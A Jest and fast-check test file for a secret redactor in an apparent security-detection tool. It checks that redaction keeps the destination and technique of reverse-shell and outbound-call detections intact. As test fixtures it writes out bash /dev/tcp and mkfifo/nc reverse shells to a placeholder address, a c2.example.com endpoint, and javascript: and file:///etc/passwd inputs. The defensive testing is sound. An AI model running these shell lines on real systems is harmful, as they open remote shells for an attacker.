import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it, test } from '@jest/globals';
import * as fc from 'fast-check';
import type { Json, JsonObject } from '../../src/contracts/types.ts';
import { createRedactor, DEFAULT_REDACTOR } from '../../src/redaction/redactor.ts';
import { SAMPLES_DIR } from '../../src/session/samples.ts';
import { detection, randomOf } from '../bench/generate.ts';
import { payloadOf, read } from '../detections/harness.ts';
import { draws, sized } from '../full.ts';
import { made, placed } from './corpus.ts';
import { ORDINARY } from './ordinary.ts';

/** Texts without any secret. */
const HARMLESS = [
  made('commit {hex:40}'),
  made('sha256:{hex:64}'),
  made('{uuid}'),
  'PWD=/home/runner/work/web/web',
  'monkey=1 keyboard=us turkey: 2',
  'actions/cache --cache-key linux-node-18',
  'sort --key 2 --sort-key name',
  'curl --key-file x --cert-type PEM',
  'openssl s_server -key server.pem -cert server.crt',
  'cosign verify --key x.pub registry.example.com/app',
  'docker build --secret id=npm,src=/run/npmrc .',
  'git clone ssh://git@host/acme/web',
  'git clone git@github.com:acme/web.git',
  'uses: owner/token-action@v1',
  'uses: actions/create-github-app-token@v1.2.3',
  'refs/heads/feature/token=1',
  'https://github.com/actions/checkout@v4',
  'https://host.example:8443/owner/action@v1',
  'permissions:\n  id-token: write\n  contents: read',
  'token: ${{ secrets.GITHUB_TOKEN }}',
  'GITHUB_TOKEN=$GITHUB_TOKEN npm publish',
  'docker run -u 1000:1000 -p 8080:80 --user node:node app',
  'ssh -p 2222 host',
  'psql -p 5432 -U app',
  'tests pass: 12 fail: 0',
  'error: invalid token: unexpected end of input',
  'max_tokens=4096',
  'password: required',
  'secrets: inherit',
  '/api?next_token=abc&page=2',
  'https://example.com/x?code=404',
  'kubectl get secret app-tls -o yaml',
  'vault kv get secret/data/ci',
  'npm_config_cache=/tmp/x npm ci',
  'key=/dev/tcp/203.0.113.9/4444',
  'TOKEN_FILE=/run/secrets/token TOKEN_URL=https://auth.example.com/token',
];

test.each(HARMLESS)('%s', (text) => {
  expect(DEFAULT_REDACTOR.text(text)).toBe(text);
});

test.each(ORDINARY)('%s', (text) => {
  expect(DEFAULT_REDACTOR.text(text)).toBe(text);
});

test.each([
  ['pw:', 'see', 'wiki'],
  ['Sig:', 'SHA256'],
  ['redis-server', '--requirepass', '"$VAR"'],
  ['pat:', 'y'],
  ['gcloud', 'x', '--secret=my-secret'],
  ['gcloud', 'x', '--secret', 'my-secret'],
  ['gcloud', 'run', 'deploy', 'x', '--set-secrets=K=s:latest'],
])('a list: %s %s', (...list) => {
  expect(DEFAULT_REDACTOR.value(list)).toEqual(list);
  const text = JSON.stringify(list);
  expect(DEFAULT_REDACTOR.text(text)).toBe(text);
});

it('masks nothing in generated detections and command lines', () => {
  const masks = new Map<string, number>();
  const count = (rule: string): void => void masks.set(rule, (masks.get(rule) ?? 0) + 1);
  for (let number = 0; number < sized(5_000, 1_000); number += 1) {
    DEFAULT_REDACTOR.object(detection(7, number) as never, count);
    DEFAULT_REDACTOR.object({ line: commandLine(number) }, count);
  }
  expect(Object.fromEntries(masks)).toEqual({});
});

const PROGRAMS = [
  'npm run build',
  'docker run --rm -v /a:/b',
  'git fetch --depth 1',
  'curl -fsSL',
  'tar -xzf',
  'go test',
];
const WORDS = [
  '--verbose',
  '-p 8080:80',
  '--key id',
  'PATH=/usr/bin',
  'NODE_ENV=test',
  'refs/heads/main',
  '--output=x.json',
];

function commandLine(seed: number): string {
  const random = randomOf(seed);
  const pick = (from: readonly string[]): string => from[Math.floor(random() * from.length)] ?? '';
  return [
    pick(PROGRAMS),
    pick(WORDS),
    pick(WORDS),
    made(`https://{hex:8}.example.com/{hex:40}/{uuid}`, seed),
    pick(WORDS),
  ].join(' ');
}

it('masks nothing in the samples', () => {
  for (const name of readdirSync(SAMPLES_DIR)) {
    for (const line of readFileSync(join(SAMPLES_DIR, name), 'utf8').split('\n')) {
      expect(DEFAULT_REDACTOR.text(line.replaceAll(/"secret":\s*"[^"]*"/g, ''))).toBe(
        line.replaceAll(/"secret":\s*"[^"]*"/g, ''),
      );
    }
  }
});

const CLEAN = payloadOf('Reverse-Shell', {
  process_events: [
    { exe: '/usr/bin/bash', arguments: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] },
  ],
});
const facts = (payload: JsonObject): unknown => {
  const { endpoint, threat, parties, container, severity } = read(payload);
  return {
    address: endpoint?.address,
    port: endpoint?.port,
    threat,
    dest: parties.dest,
    image: container?.image_name,
    severity,
  };
};
const around = fc.oneof(
  fc.constantFrom(
    'key=',
    'TOKEN=',
    'password: ',
    '--token ',
    "PASSWORD='",
    'Authorization: Bearer ',
    'https://u:',
    '?code=',
    made('ghp_{alnum:36}'),
  ),
  fc.constantFrom(...placed().map(([, text]) => text)),
);

const shell = fc.constantFrom(
  '; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1;',
  '; rm f;mkfifo f;cat f|sh -i 2>&1|nc 203.0.113.9 4444 >f;',
);
const decoy = fc.constantFrom(
  '',
  'nc -z db 5432; ',
  '; echo hi >/dev/tcp/127.0.0.1/22; ',
  '; # /dev/tcp/198.51.100.1/1\n',
);

it('hides neither destination nor technique, whatever surrounds a shell', () => {
  fc.assert(
    fc.property(around, around, shell, decoy, decoy, (before, after, run, one, other) => {
      const line = `${one}${before} ${run} ${after}${other}`;
      const payload = {
        ...CLEAN,
        process_events: [{ exe: '/usr/bin/bash', arguments: ['bash', '-c', line] }] as Json,
      };
      expect(facts(payload)).toEqual(facts(CLEAN));
    }),
    { numRuns: draws(500) },
  );
});

it('hides no destination that only a far end shows', () => {
  fc.assert(
    fc.property(around, around, (before, after) => {
      const line = `${before} /dev/tcp/203.0.113.9/4444; bash -i >& $key 0>&1 ${after}`;
      const payload = {
        ...CLEAN,
        process_events: [{ exe: '/usr/bin/bash', arguments: ['bash', '-c', line] }] as Json,
      };
      expect(facts(payload)).toEqual(facts(CLEAN));
    }),
    { numRuns: draws(500) },
  );
});

const KEEPING = createRedactor({ patterns: [], names: [], exceptions: ['(?s).*'] });

it('gives a detection the uid that it has without redaction', () => {
  fc.assert(
    fc.property(around, around, fc.constantFrom('event_id', 'natural' as const), (one, two, identity) => {
      const payload = payloadOf('Reverse-Shell', { event_id: one, detection: two, job: one, path: two });
      const masked = read(payload, { identity: identity as 'natural' });
      const kept = read(payload, { identity: identity as 'natural', redactor: KEEPING });
      expect([masked.uid, masked.fingerprint]).toEqual([kept.uid, kept.fingerprint]);
      expect(kept.masks).toBeUndefined();
    }),
    { numRuns: draws(300) },
  );
});

it('keeps the host of a request that contains a secret', () => {
  fc.assert(
    fc.property(around, (text) => {
      const { endpoint, container } = read(
        payloadOf('New-Outbound-Network-Call', {
          endpoint: 'c2.example.com:4444',
          path: text,
          process_events: [
            { exe: '/usr/bin/docker', arguments: ['docker', 'run', '-e', text, 'evil.example/image:1'] },
          ],
        }),
      );
      expect([endpoint?.address, endpoint?.port, container?.image_name]).toEqual([
        'c2.example.com',
        4444,
        'evil.example/image',
      ]);
    }),
  );
});

test.each(['javascript:alert(1)', 'data:text/html,x', 'file:///etc/passwd', '//a.example/x', ' https', 'x'])(
  'an html_url that is not a web address is not a link: %s',
  (html_url) => {
    const { link } = read(payloadOf('Reverse-Shell', { html_url }));
    expect(link ?? '').toMatch(/^(?:|https:\/\/.*)$/);
  },
);
